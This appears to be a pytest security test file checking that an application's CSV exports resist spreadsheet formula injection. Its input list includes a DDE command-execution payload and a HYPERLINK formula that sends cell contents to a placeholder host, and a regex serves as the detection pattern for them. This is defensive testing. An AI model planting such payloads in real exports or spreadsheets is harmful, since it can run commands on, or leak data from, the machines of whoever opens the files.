"""D22: a table that leaves Assay runs nothing in the spreadsheet of whoever opens it."""

import csv
import io
import re

import pytest

from tests.security.conftest import browser

#: what a spreadsheet may take for the beginning of a formula, also after what it may take for the end of a cell
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "'=1+1"),
    *('"=1+1', ";=1+1", 'a";=1+1', "a\n=1+1", 'a" =1+1', '=HYPERLINK("http://x.example?"&A1)', "=cmd|'/C calc'!A0"),
]
STARTS = re.compile(r"^[\s\"';]*[=+\-@＝＋－＠]|[;\t\r\n\"'][\s\"';]*[=+\-@＝＋－＠]")


def cells(answer):
    assert answer.status_code == 200
    text = answer.content.decode()
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_formula(cell):
    """Whether a cell would run: a guard is an apostrophe right before the sign."""
    return bool(STARTS.search(re.sub(r"'[=+\-@＝＋－＠]", "", cell)))


@pytest.mark.parametrize("text", FORMULAS)
def test_d22_no_title_label_or_name_is_a_formula(crew, text):
    crew.ana.change(name=text.strip() or "x", by=crew.ana)
    item = crew.story(f"{text} and more")
    item.assign([crew.ana], by=crew.ana)
    item.label([text], by=crew.ana)

    for cell in cells(browser(crew.vera).get("/p/churn/backlog.csv")):
        assert not is_formula(cell), cell


@pytest.mark.parametrize("text", FORMULAS)
def test_d22_no_run_is_a_formula(ledger, text):
    hypothesis = ledger.registered()
    run = {"run_id": text, "name": text, "user": text, "commit": text, "dataset": text, "status": text}
    ledger.bring(hypothesis, [ledger.pair(1, **run)])

    for cell in cells(browser(ledger.crew.vera).get(f"{hypothesis.url}/runs.csv")):
        assert re.fullmatch(r"-?[0-9.e-]+|[0-9:T+-]+", cell) or not is_formula(cell), cell


def test_d22_numbers_stay_numbers(ledger):
    hypothesis = ledger.registered()
    ledger.bring(hypothesis, [ledger.pair(-1, -0.5)])

    found = cells(browser(ledger.crew.vera).get(f"{hypothesis.url}/runs.csv"))

    assert "-1" in found
    assert "-0.19" in found


@pytest.mark.parametrize("path", ["/p/churn/backlog.csv", "/browse/CHURN-H1/runs.csv"])
def test_c16_a_table_is_a_download_of_its_own_kind(ledger, path):
    ledger.sufficing()
    answer = browser(ledger.crew.ana).get(path)

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9-]+\.csv"', answer.headers["Content-Disposition"])
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
